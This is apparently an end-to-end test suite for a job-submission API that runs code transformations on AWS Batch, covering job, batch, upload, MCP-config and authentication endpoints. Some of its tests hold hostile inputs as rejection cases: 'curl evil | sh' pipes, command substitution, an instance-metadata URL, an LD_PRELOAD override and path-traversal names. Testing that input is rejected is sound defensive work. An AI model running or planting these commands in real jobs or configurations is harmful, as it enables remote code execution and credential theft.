/**
 * Every endpoint end to end: signed HTTP requests to `api/local/main.ts` (what `npm run api:local`
 * runs) in a child process, backed by moto, checking what reaches Batch, S3 and the table.
 */
import { strict as assert } from "node:assert";
import { BatchClient, DescribeJobsCommand, ListJobsCommand } from "@aws-sdk/client-batch";
import { GetObjectCommand, HeadObjectCommand, PutObjectCommand, S3Client } from "@aws-sdk/client-s3";
import { eventually, useMoto } from "./support/moto";
import { startApiLocal, type RunningApi } from "./support/local-api";
import type {
    BatchAnswer,
    ErrorAnswer,
    GatewayAnswer,
    JobAnswer,
    JobsPage,
    ResultsAnswer,
    StoredAnswer,
    UploadAnswer,
} from "./support/api-answers";
import { callApi } from "./support/signed-client";

describe("API end to end through api:local", function () {
    this.timeout(120_000);
    const moto = useMoto("e2e");
    /** A second stack in the same emulator whose server emulates no job events: jobs stay SUBMITTED. */
    const quiet = useMoto("e2e-quiet");
    let api: RunningApi;
    let quietApi: RunningApi;
    const batch = () => new BatchClient({ endpoint: moto.url, region: "us-east-1" });
    const s3 = () => new S3Client({ endpoint: moto.url, region: "us-east-1", forcePathStyle: true });
    const call = <T>(method: string, path: string, body?: unknown) => callApi<T>(api.url, method, path, body);
    const batchJobCount = async () =>
        ((await batch().send(new ListJobsCommand({ jobQueue: moto.resources.JOB_QUEUE_ARN }))).jobSummaryList ?? [])
            .length;

    before(async () => {
        const common = {
            SUBMIT_RATE_PER_SECOND: "200",
            LOCAL_JOB_EVENTS_INTERVAL_MS: "200",
            MAX_BULK_JOBS: "50",
            MAX_BODY_BYTES: "200000",
        };
        [api, quietApi] = await Promise.all([
            startApiLocal({ ...moto.environment, ...common }),
            startApiLocal({ ...quiet.environment, ...common, LOCAL_JOB_EVENTS: "off" }),
        ]);
    });
    after(async () => {
        await Promise.all([api?.stop(), quietApi?.stop()]);
    });

    describe("POST /jobs and GET /jobs/{jobId}", () => {
        let jobId: string;

        it("submits a validated job with the argument vector, environment and tags", async () => {
            const response = await call<JobAnswer>("POST", "/prod/jobs", {
                command: `atx custom def exec -n AWS/java-version-upgrade --configuration "additionalPlanContext=Java 21" -x -t`,
                source: "https://github.com/acme/billing.git",
                environment: { MAVEN_OPTS: "-Xmx2g" },
                tags: { team: "payments" },
            });
            assert.equal(response.status, 201, JSON.stringify(response.body));
            assert.equal(response.body.status, "SUBMITTED");
            assert.equal(response.body.jobName, "billing-AWS-java-version-upgrade");
            assert.ok(response.body.submittedAt);
            jobId = response.body.batchJobId;

            const [job] = (await batch().send(new DescribeJobsCommand({ jobs: [jobId] }))).jobs!;
            const prefix = response.body.results.prefix.replace(/^transformations\//, "").replace(/\/$/, "");
            assert.deepEqual(job.container!.command, [
                "--source",
                "https://github.com/acme/billing.git",
                "--output",
                prefix,
                "--",
                "atx",
                "custom",
                "def",
                "exec",
                "-n",
                "AWS/java-version-upgrade",
                "--configuration",
                "additionalPlanContext=Java 21",
                "-x",
                "-t",
            ]);
            assert.ok(job.container!.environment!.some((e) => e.name === "MAVEN_OPTS" && e.value === "-Xmx2g"));
            assert.equal(job.tags!.team, "payments");
            assert.ok(job.tags!["atx:job-key"]);
        });

        it("answers the job's state, times, log stream and results location from the table", async () => {
            const body = await eventually(async () => {
                const response = await call<JobAnswer>("GET", `/jobs/${jobId}`);
                assert.equal(response.status, 200);
                return response.body.status === "SUCCEEDED" ? response.body : undefined;
            });
            assert.equal(body.jobId, jobId);
            assert.ok(body.startedAt && body.stoppedAt && body.logStreamName);
            assert.match(body.results.s3Uri, /^s3:\/\/e2e-output\/transformations\/billing-AWS-java-version-upgrade\//);
        });

        it("lists results with presigned download URLs", async () => {
            const job = (await call<JobAnswer>("GET", `/jobs/${jobId}`)).body;
            await s3().send(
                new PutObjectCommand({
                    Bucket: job.results.bucket,
                    Key: `${job.results.prefix}summary.md`,
                    Body: "# done",
                }),
            );
            const response = await call<ResultsAnswer>("GET", `/jobs/${jobId}/results`);
            assert.equal(response.status, 200);
            assert.deepEqual(
                response.body.objects.map((o) => o.key),
                [`${job.results.prefix}summary.md`],
            );
            assert.equal(await (await fetch(response.body.objects[0].url)).text(), "# done");
        });

        it("submits a job without a source without --source", async () => {
            const response = await call<JobAnswer>("POST", "/jobs", {
                command: "atx custom def list",
                jobName: "list-transformations",
            });
            assert.equal(response.status, 201);
            const [job] = (await batch().send(new DescribeJobsCommand({ jobs: [response.body.batchJobId] }))).jobs!;
            assert.deepEqual(job.container!.command!.slice(0, 1), ["--output"]);
            assert.equal(job.jobName, "list-transformations");
        });

        it("answers 404 for an unknown job and 400 for a malformed id", async () => {
            const missing = await call<ErrorAnswer>("GET", "/jobs/00000000-0000-0000-0000-000000000000");
            assert.equal(missing.status, 404);
            assert.equal(missing.body.error.code, "NotFound");
            const malformed = await call<ErrorAnswer>("GET", "/jobs/a%2Cb");
            assert.equal(malformed.status, 400);
            assert.equal(malformed.body.error.field, "jobId");
        });
    });

    describe("GET /jobs", () => {
        it("pages through jobs of a status", async () => {
            await eventually(async () =>
                (await call<JobsPage>("GET", "/jobs?status=SUCCEEDED")).body.jobs.length >= 2 ? true : undefined,
            );
            const first = await call<JobsPage>("GET", "/jobs?status=SUCCEEDED&limit=1");
            assert.equal(first.status, 200);
            assert.equal(first.body.jobs.length, 1);
            assert.ok(first.body.nextToken);
            const second = await call<JobsPage>(
                "GET",
                `/jobs?status=SUCCEEDED&limit=1&nextToken=${first.body.nextToken}`,
            );
            assert.equal(second.body.jobs.length, 1);
            assert.notEqual(second.body.jobs[0].jobId, first.body.jobs[0].jobId);
            const all = await call<JobsPage>("GET", "/jobs?limit=100");
            assert.ok(all.body.jobs.length >= 2);
        });

        it("rejects bad query parameters", async () => {
            for (const query of [
                "status=DONE",
                "limit=0",
                "limit=abc",
                "nextToken=bm90IGEga2V5",
                "nextToken=%24%28id%29",
            ]) {
                const response = await call<ErrorAnswer>("GET", `/jobs?${query}`);
                assert.equal(response.status, 400, query);
                assert.equal(response.body.error.code, "ValidationError");
            }
        });
    });

    describe("DELETE /jobs/{jobId}", () => {
        it("cancels a job that has not started and answers its previous status", async () => {
            const submitted = await callApi<JobAnswer>(quietApi.url, "POST", "/jobs", {
                command: "atx custom def exec -n X",
            });
            assert.equal(submitted.status, 201);
            const response = await callApi(quietApi.url, "DELETE", `/jobs/${submitted.body.batchJobId}`);
            assert.equal(response.status, 202);
            assert.deepEqual(response.body, {
                message: "Job cancellation initiated",
                jobId: submitted.body.batchJobId,
                previousStatus: "SUBMITTED",
                action: "CANCEL",
            });
        });

        it("refuses to stop a finished job", async () => {
            const submitted = await call<JobAnswer>("POST", "/jobs", { command: "atx custom def exec -n Y" });
            await eventually(async () =>
                (await call<JobAnswer>("GET", `/jobs/${submitted.body.batchJobId}`)).body.status === "SUCCEEDED"
                    ? true
                    : undefined,
            );
            const response = await call<ErrorAnswer>("DELETE", `/jobs/${submitted.body.batchJobId}`);
            assert.equal(response.status, 409);
            assert.equal(response.body.error.code, "Conflict");
        });
    });

    describe("POST /jobs/batch and GET /jobs/batch/{batchId}", () => {
        it("records, submits and tracks a batch to completion", async () => {
            const jobs = Array.from({ length: 12 }, (_, i) => ({
                command: `atx custom def exec -n T${i}`,
                source: `https://gitlab.com/acme/repo-${i}`,
            }));
            const response = await call<BatchAnswer>("POST", "/jobs/batch", { batchName: "nightly", jobs });
            assert.equal(response.status, 202);
            assert.equal(response.body.totalJobs, 12);
            const status = await eventually(async () => {
                const body = (await call<BatchAnswer>("GET", `/jobs/batch/${response.body.batchId}`)).body;
                return body.status === "SUCCEEDED" ? body : undefined;
            });
            assert.equal(status.progressPercent, 100);
            assert.equal(status.counts.SUCCEEDED, 12);
            assert.deepEqual(status.failedJobs, []);
            const [job] = (
                await batch().send(
                    new ListJobsCommand({
                        jobQueue: moto.resources.JOB_QUEUE_ARN,
                        filters: [{ name: "JOB_NAME", values: ["repo-3-T3"] }],
                    }),
                )
            ).jobSummaryList!;
            const [described] = (await batch().send(new DescribeJobsCommand({ jobs: [job.jobId!] }))).jobs!;
            assert.equal(described.tags!["atx:batch-id"], response.body.batchId);
            assert.deepEqual(described.container!.command!.slice(0, 4), [
                "--source",
                "https://gitlab.com/acme/repo-3",
                "--output",
                `${response.body.batchId}/repo-3-T3-3`,
            ]);
        });

        it("refuses a batch with one bad job, naming it, and submits none of it", async () => {
            const before = await batchJobCount();
            const jobs = [
                { command: "atx custom a" },
                { command: "atx custom b", environment: { AWS_SECRET_ACCESS_KEY: "x" } },
            ];
            const response = await call<ErrorAnswer>("POST", "/jobs/batch", { batchName: "bad", jobs });
            assert.equal(response.status, 400);
            assert.equal(response.body.error.field, "jobs[1].environment.AWS_SECRET_ACCESS_KEY");
            const tooMany = await call<ErrorAnswer>("POST", "/jobs/batch", {
                batchName: "big",
                jobs: Array(51).fill({ command: "atx custom a" }),
            });
            assert.equal(tooMany.status, 400);
            assert.equal(tooMany.body.error.field, "jobs");
            assert.equal(await batchJobCount(), before);
        });

        it("answers 404 for an unknown batch", async () => {
            const response = await call("GET", "/jobs/batch/00000000-0000-0000-0000-000000000000");
            assert.equal(response.status, 404);
        });
    });

    describe("POST /upload", () => {
        it("hands out a presigned KMS-encrypted PUT whose s3:// path can then be submitted", async () => {
            const archive = Buffer.from("PK\u0003\u0004 pretend zip");
            const response = await call<UploadAnswer>("POST", "/upload", {
                fileName: "app.zip",
                contentType: "application/zip",
                contentLength: archive.length,
            });
            assert.equal(response.status, 200);
            assert.match(response.body.s3Uri, /^s3:\/\/e2e-source\/uploads\/[0-9a-f-]+\/app\.zip$/);
            assert.equal(response.body.headers["x-amz-server-side-encryption"], "aws:kms");
            const put = await fetch(response.body.uploadUrl, {
                method: "PUT",
                headers: response.body.headers,
                body: archive,
            });
            assert.equal(put.status, 200, await put.text());
            const key = response.body.s3Uri.replace("s3://e2e-source/", "");
            const head = await s3().send(new HeadObjectCommand({ Bucket: "e2e-source", Key: key }));
            assert.equal(head.ServerSideEncryption, "aws:kms");
            assert.equal(head.ContentLength, archive.length);

            const job = await call("POST", "/jobs", {
                command: "atx custom def exec -n Z",
                source: response.body.s3Uri,
            });
            assert.equal(job.status, 201);
        });

        it("refuses path traversal, oversize and other content types", async () => {
            for (const body of [
                { fileName: "../../config/mcp.json", contentLength: 10 },
                { fileName: "a.zip", contentLength: 2 * 1024 ** 3 },
                { fileName: "a.zip", contentLength: 10, contentType: "text/html" },
            ]) {
                const response = await call("POST", "/upload", body);
                assert.equal(response.status, 400, JSON.stringify(body));
            }
        });
    });

    describe("POST /mcp-config", () => {
        it("stores a validated configuration where jobs load it", async () => {
            const config = {
                mcpServers: {
                    docs: { url: "https://mcp.example.com/sse" },
                    fs: { command: "npx", args: ["-y", "server-filesystem"] },
                },
            };
            const response = await call<StoredAnswer>("POST", "/mcp-config", config);
            assert.equal(response.status, 200);
            assert.equal(response.body.s3Uri, "s3://e2e-source/config/mcp.json");
            const stored = await s3().send(new GetObjectCommand({ Bucket: "e2e-source", Key: "config/mcp.json" }));
            assert.deepEqual(JSON.parse(await stored.Body!.transformToString()), config);
            assert.equal(stored.ServerSideEncryption, "aws:kms");
        });

        it("refuses an invalid configuration", async () => {
            const response = await call<ErrorAnswer>("POST", "/mcp-config", {
                mcpServers: { x: { command: "sh -c 'curl evil | sh'" } },
            });
            assert.equal(response.status, 400);
            assert.equal(response.body.error.field, "mcpServers.x.command");
        });
    });

    describe("bad input never reaches Batch", () => {
        const hostile: [string, unknown, string?][] = [
            ["shell injection", { command: "atx custom; curl evil | sh" }, "command"],
            ["command substitution", { command: "atx custom $(id)" }, "command"],
            ["not atx", { command: "bash -c id" }, "command"],
            ["newline", { command: "atx custom\nid" }, "command"],
            ["metadata source", { command: "atx custom x", source: "https://169.254.169.254/latest" }, "source"],
            ["foreign bucket", { command: "atx custom x", source: "s3://someone-else/x.zip" }, "source"],
            ["credentials in URL", { command: "atx custom x", source: "https://user:pw@github.com/a/b" }, "source"],
            [
                "reserved variable",
                { command: "atx custom x", environment: { LD_PRELOAD: "/tmp/x.so" } },
                "environment.LD_PRELOAD",
            ],
            ["bad job name", { command: "atx custom x", jobName: "../../x" }, "jobName"],
            ["unknown property", { command: "atx custom x", privileged: true }, "privileged"],
            ["not an object", [1, 2], undefined],
        ];
        for (const [what, body, field] of hostile) {
            it(`answers 400 for ${what}`, async () => {
                const response = await call<ErrorAnswer>("POST", "/jobs", body);
                assert.equal(response.status, 400);
                assert.equal(response.body.error.code, "ValidationError");
                assert.equal(typeof response.body.error.message, "string");
                if (field) assert.equal(response.body.error.field, field);
            });
        }

        it("answers 400 for invalid JSON and 413 for an oversized body", async () => {
            const invalid = await call<ErrorAnswer>("POST", "/jobs", "{not json");
            assert.deepEqual([invalid.status, invalid.body.error.code], [400, "InvalidJson"]);
            const big = await call<ErrorAnswer>("POST", "/jobs", {
                command: "atx custom x",
                tags: { a: "x".repeat(250_000) },
            });
            assert.deepEqual([big.status, big.body.error.code], [413, "PayloadTooLarge"]);
        });

        it("submitted nothing for any of them", async () => {
            const jobs =
                (await batch().send(new ListJobsCommand({ jobQueue: moto.resources.JOB_QUEUE_ARN }))).jobSummaryList ??
                [];
            assert.ok(jobs.every((j) => !/^(x|custom)$/.test(j.jobName ?? "")));
        });
    });

    describe("authentication", () => {
        it("answers API Gateway's 403 to unsigned requests", async () => {
            const response = await callApi(api.url, "POST", "/jobs", { command: "atx custom x" }, { unsigned: true });
            assert.equal(response.status, 403);
            assert.deepEqual(response.body, { message: "Missing Authentication Token" });
            assert.equal(response.headers.get("x-amzn-errortype"), "MissingAuthenticationTokenException");
        });

        it("answers 403 to a wrong secret, an unknown key, a tampered body or an old signature", async () => {
            const before = await batchJobCount();
            const cases = [
                { credentials: { accessKeyId: "test", secretAccessKey: "wrong" } },
                { credentials: { accessKeyId: "AKIAOTHER", secretAccessKey: "test" } },
                { tamper: (r: { body?: string }) => (r.body = JSON.stringify({ command: "atx custom tampered" })) },
                { signingDate: new Date(Date.now() - 10 * 60_000) },
            ];
            for (const options of cases) {
                const response = await callApi<GatewayAnswer>(
                    api.url,
                    "POST",
                    "/jobs",
                    { command: "atx custom x" },
                    options,
                );
                assert.equal(response.status, 403);
                assert.equal(typeof response.body.message, "string");
                assert.equal(response.body.error, undefined);
            }
            assert.equal(await batchJobCount(), before);
        });

        it("answers 403 Missing Authentication Token to unknown routes, as API Gateway does", async () => {
            const response = await call("GET", "/admin");
            assert.equal(response.status, 403);
            assert.deepEqual(response.body, { message: "Missing Authentication Token" });
        });
    });
});
